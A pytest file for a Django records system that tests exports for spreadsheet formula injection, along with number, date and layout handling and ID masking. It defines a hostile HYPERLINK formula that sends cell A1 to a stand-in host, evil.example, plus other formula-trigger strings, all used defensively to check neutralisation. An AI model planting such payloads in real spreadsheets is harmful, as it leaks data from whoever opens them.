"""Formula injection (issue 12 item 7): text that a spreadsheet would run is neutralised in every export."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import openpyxl.utils
import openpyxl.utils.cell
import pyarrow as pa
import pytest
from django.urls import reverse
from django.utils import timezone

from jingzhun.accounts.models import AuditEvent
from jingzhun.cells import is_risky, safe_cell
from jingzhun.exchange.export import write_csv, write_xlsx
from jingzhun.exchange.issues import ImportIssue
from jingzhun.exchange.errorbook import error_workbook
from jingzhun.exchange.importer import typed_table
from jingzhun.exchange.readers import read_sources

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize("value", [HOSTILE, "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_formula_looking_text_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-500.00", "+86", "-.5", "1e5", "王建国", "0359-6521234", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert not is_risky(value) and safe_cell(value) == value


def _tables():
    return {"户表": pa.table({"户主姓名": [HOSTILE, "王建国"], "生产经营性支出": ["-500.00", "12.50"]})}


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(tmp_path):
    (path,) = write_csv(_tables(), tmp_path)
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and '"=HYPERLINK' not in text.replace("'=", "")
    assert "-500.00" in text and "'-500.00" not in text
    sheets, _issues = read_sources([path])
    assert sheets["户表"].table.column("户主姓名").to_pylist() == [HOSTILE, "王建国"]


def test_xlsx_export_writes_formula_looking_text_as_a_quoted_string_not_a_formula(tmp_path):
    path = write_xlsx(_tables(), tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        styles = zf.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # a string cell, never a formula
    assert 'quotePrefix="1"' in styles  # and Excel keeps it text when the cell is edited
    sheets, _issues = read_sources([path])
    assert sheets["户表"].table.column("户主姓名").to_pylist() == [HOSTILE, "王建国"]


def test_error_workbook_quotes_the_hostile_value(tmp_path):
    issue = ImportIssue("户表.csv", "户表", 2, "户主姓名", HOSTILE, "示例")
    error_workbook([issue], {}, tmp_path / "errors.xlsx")
    with zipfile.ZipFile(tmp_path / "errors.xlsx") as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
        assert 'quotePrefix="1"' in zf.read("xl/styles.xml").decode()


# --- every workbook we write: numbers as numbers, dates as dates, a frozen header with an autofilter ---------

def _check_layout(ws, columns: int) -> None:
    assert ws.freeze_panes in ("A2", "B2", "C2"), ws.title
    assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
    last = ws.auto_filter.ref.split(":")[1]
    assert openpyxl.utils.cell.column_index_from_string(re.match(r"[A-Z]+", last).group()) == columns, ws.title
    for col in range(1, columns + 1):
        width = ws.column_dimensions[openpyxl.utils.get_column_letter(col)].width
        assert width and 6 <= width <= 62, (ws.title, col, width)


def _book(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.django_db
def test_household_export_numbers_are_numbers_and_codes_stay_text(world, client, tmp_path):
    """Defect 11 of issue 13: '12000.00' was text, so SUM gave 0, and there was no autofilter."""
    client.force_login(world.county_admin)
    book = _book(b"".join(client.get(reverse("exchange:household_export")).streaming_content))
    households = book["户表"]
    header = [c.value for c in households[1]]
    _check_layout(households, len(header))
    row = {h: c for h, c in zip(header, households[2])}
    assert row["户编号"].data_type == "s" and row["村代码"].data_type == "s" and row["户主身份证号"].data_type == "s"
    assert row["工资性收入"].data_type == "n" and row["工资性收入"].value == 12000
    assert row["工资性收入"].number_format == "0.00" and row["识别年度"].value == 2014
    for sheet in book.worksheets:
        _check_layout(sheet, sheet.max_column)
    # and it reads back through the import as the same records
    (tmp_path / "back.xlsx").write_bytes(b"".join(client.get(reverse("exchange:household_export")).streaming_content))
    sheets, issues = read_sources([tmp_path / "back.xlsx"])
    assert issues == []
    typed = typed_table("户表", sheets["户表"])
    home = next(r for r in typed.to_pylist() if r["code"] == world.home.code)
    assert home["wage_income"] == Decimal("12000.00") and home["identified_year"] == 2014


@pytest.mark.django_db
def test_problem_export_has_dates_as_dates_and_keeps_hostile_text_text(world, client):
    from jingzhun.checks.models import CheckRun, Problem

    run = CheckRun.objects.create(org="", as_of=datetime.date(2024, 6, 30))
    seen = timezone.now()
    Problem.objects.create(rule="Q01", household=world.home.code, person="", village=world.home.village_id,
                           message=HOSTILE, first_run=run, last_run=run, first_seen=seen, last_seen=seen)
    client.force_login(world.county_admin)
    content = b"".join(client.get(reverse("checks:problem_export")).streaming_content)
    ws = _book(content).active
    header = [c.value for c in ws[1]]
    _check_layout(ws, len(header))
    row = {h: c for h, c in zip(header, ws[2])}
    assert row["首次发现"].is_date and row["首次发现"].value.date() == timezone.localtime(seen).date()
    assert row["户编号"].data_type == "s"
    assert row["问题说明"].value == HOSTILE and row["问题说明"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.django_db
def test_indicator_export_has_numbers_with_formats_and_a_frozen_header(world, client):
    from jingzhun.indicators.services import indicators_refresh

    indicators_refresh()
    client.force_login(world.county_admin)
    ws = _book(b"".join(client.get(reverse("dashboard:overview_export", args=["140826"])).streaming_content)).active
    header = [c.value for c in ws[1]]
    _check_layout(ws, len(header))
    assert ws.freeze_panes == "C2"  # code and name stay in view
    row = {h: c for h, c in zip(header, ws[2])}
    assert row["代码"].data_type == "s" and row["建档立卡户数（户）"].data_type == "n"


def test_error_workbook_row_numbers_are_numbers_with_a_frozen_filtered_header(tmp_path):
    issues = [ImportIssue("户表.csv", "户表", 2, "户主姓名", HOSTILE, "示例"), ImportIssue("户表.csv", "户表", 3, "", "", "缺列")]
    error_workbook(issues, {}, tmp_path / "errors.xlsx", total=5)
    ws = openpyxl.load_workbook(tmp_path / "errors.xlsx").active
    _check_layout(ws, 6)
    assert ws["C2"].data_type == "n" and ws["C2"].value == 2
    assert ws["E2"].value == HOSTILE and ws["E2"].data_type == "s"
    assert "另有 3 处" in ws["F4"].value


def test_sheet_writer_turns_numeric_text_into_numbers_only_in_numeric_columns(tmp_path):
    import xlsxwriter

    from jingzhun.cells import DATE, DECIMAL, INT, SheetColumn, SheetWriter

    book = xlsxwriter.Workbook(str(tmp_path / "t.xlsx"), {"constant_memory": True})
    columns = [SheetColumn("代码"), SheetColumn("金额", DECIMAL), SheetColumn("人数", INT), SheetColumn("日期", DATE)]
    rows = [["0012", "440.00", "3", datetime.date(2026, 1, 2)], ["-1", "不详", None, None], ["=1+1", -5, 2.0, ""]]
    assert SheetWriter(book).write("表", columns, rows) == 3
    book.close()
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [c.value for c in ws[2]] == ["0012", 440, 3, datetime.datetime(2026, 1, 2)]
    assert ws["A2"].data_type == "s" and ws["B2"].data_type == "n" and ws["D2"].is_date
    assert ws["B3"].value == "不详" and ws["A3"].value == "-1" and ws["A3"].data_type == "s"
    assert ws["A4"].value == "=1+1" and ws["A4"].data_type == "s" and ws["B4"].value == -5
    assert ws["B2"].number_format == "#,##0.00" and ws["D2"].number_format == "yyyy-mm-dd"
    _check_layout(ws, 4)


@pytest.mark.django_db
def test_ledger_events_export_follows_the_list_and_has_dates_and_counts_as_such(world, client):
    from jingzhun.workflows.models import LedgerEvent

    for n, household in enumerate(world.households, start=1):
        LedgerEvent.objects.create(type="exit", effective=datetime.date(2026, 3, n), household=household.code,
                                   village=household.village_id, head_name=household.head_name, persons=n,
                                   source="import")
    client.force_login(world.county_admin)
    query = {"start": "2026-01-01", "end": "2026-12-31", "sort": "persons", "format": "xlsx"}
    response = client.get(reverse("workflows:ledger_events"), query)
    assert response["Content-Type"].startswith("application/vnd.openxml")
    ws = _book(b"".join(response.streaming_content)).active
    header = [c.value for c in ws[1]]
    _check_layout(ws, len(header))
    rows = [{h: c for h, c in zip(header, r)} for r in ws.iter_rows(min_row=2)]
    assert [r["涉及人数"].value for r in rows] == [1, 2, 3]  # the county's three, in the list's order
    assert rows[0]["生效日期"].is_date and rows[0]["户编号"].data_type == "s"
    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORT).detail["what"] == "ledger_events"


@pytest.mark.django_db
def test_comparison_pairs_export_masks_ids_for_read_only_roles(world, client):
    from jingzhun.compare.models import Batch, CompareRun, ExternalRecord, Match

    batch = Batch.objects.create(kind="death", source="测试", data_date=datetime.date(2026, 1, 1), org="140826")
    run = CompareRun.objects.create(kind="death", org="140826", batch=batch, status=CompareRun.Status.DONE)
    member = world.home.members.get(relation="户主")
    record = ExternalRecord.objects.create(batch=batch, row=2, name=member.name, id_number=member.id_number,
                                           birth_date=datetime.date(1965, 3, 4))
    Match.objects.create(run=run, record=record, member_id=member.pk, household=world.home.code,
                         village=world.home.village_id, person=member.id_number, member_name=member.name,
                         method=Match.Method.FUZZY, match_weight=5.25, status=Match.Status.PENDING, agreements={})
    for user, shown in ((world.evaluator, member.id_number[:6] + "********" + member.id_number[-4:]),
                        (world.county_admin, member.id_number)):
        client.force_login(user)
        page = client.get(reverse("compare:run", args=[run.pk])).content.decode()
        assert 'id="export-list"' in page
        response = client.get(reverse("compare:run", args=[run.pk]), {"format": "xlsx"})
        ws = _book(b"".join(response.streaming_content)).active
        header = [c.value for c in ws[1]]
        _check_layout(ws, len(header))
        row = {h: c for h, c in zip(header, ws[2])}
        assert row["身份证号"].value == shown and row["外部记录身份证号"].value == shown
        assert row["匹配权重"].data_type == "n" and row["外部记录出生日期"].is_date
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, detail__what="compare_pairs").count() == 2
